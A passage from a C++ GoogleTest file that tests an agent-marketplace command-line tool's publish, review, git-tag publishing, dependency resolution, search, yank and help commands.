  EXPECT_NE(r.err.find("cli-agent@0.1.0: submitted"), std::string::npos) << r.err;
  auto doc = json::parse(call("GET", "/marketplace/agents/cli-agent/0.1.0").body);
  bool exec = false, link = false;
  for (const auto& f : doc["files"]) {
    exec = exec || (f["path"] == "bin/run.sh" && f["executable"] == true);
    link = link || (f["path"] == "start" && f.value("symlink", "") == "bin/run.sh");
  }
  EXPECT_TRUE(exec && link) << doc["files"].dump();
  r = nf({"agent", "review", "cli-agent@0.1.0", "approve", "--feedback", "ok"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("cli-agent@0.1.0 approved"), std::string::npos) << r.out;

  // The same package at a git ref: the ref's content, not the working tree's.
  const fs::path repo = dir_.path() / "repo";
  fs::create_directories(repo);
  auto git = [&](std::vector<std::string> args) {
    args.insert(args.begin(), {"/usr/bin/git", "-C", repo.string(), "-c", "user.email=t@example.com", "-c", "user.name=t"});
    return t::run(args);
  };
  ASSERT_EQ(git({"init", "-q"}).exit_code, 0);
  m["version"] = "0.2.0";
  std::ofstream(repo / "agent.json") << m.dump();
  fs::create_directories(repo / "bin");
  std::ofstream(repo / "bin" / "run.sh") << "#!/bin/sh\necho tagged\n";
  ASSERT_EQ(git({"add", "."}).exit_code, 0);
  ASSERT_EQ(git({"commit", "-q", "-m", "v0.2.0"}).exit_code, 0);
  ASSERT_EQ(git({"tag", "v0.2.0"}).exit_code, 0);
  std::ofstream(repo / "bin" / "run.sh") << "#!/bin/sh\necho not committed\n";
  r = nf({"publish", "--git", repo.string(), "--ref", "v0.2.0", "--wait", "--json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(json::parse(r.out)["status"], "pending_review");
  EXPECT_EQ(call("GET", "/marketplace/agents/cli-agent/0.2.0/files?path=bin/run.sh").body, "#!/bin/sh\necho tagged\n");
  r = nf({"publish", "--git", repo.string(), "--ref", "no-such-ref"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("git archive"), std::string::npos) << r.err;

  // Resolve, search, show, yank.
  r = nf({"resolve", "cli-agent@^0.1", "--json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(json::parse(r.out)["order"], json::array({"text-lib@1.0.0", "cli-agent@0.1.0"}));
  r = nf({"resolve", "cli-agent@^9"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("the request needs cli-agent ^9, which no published version satisfies"), std::string::npos) << r.err;
  r = nf({"search", "cli", "--json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(json::parse(r.out)["items"][0]["name"], "cli-agent");
  r = nf({"agent", "yank", "cli-agent@0.1.0", "--reason", "bad"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  r = nf({"agent", "show", "cli-agent@0.1.0", "--json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(json::parse(r.out)["yanked"], true);
  r = nf({"publish", (dir_.path() / "missing").string()});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("agent.json"), std::string::npos);
  for (const char* cmd : {"publish", "resolve", "search", "install"}) {
    auto h = t::run({t::nexus_forge_binary(), cmd, "--help"});
    EXPECT_EQ(h.exit_code, 0) << cmd;
    EXPECT_NE(h.out.find("--server"), std::string::npos) << cmd;
  }
}

}  // namespace
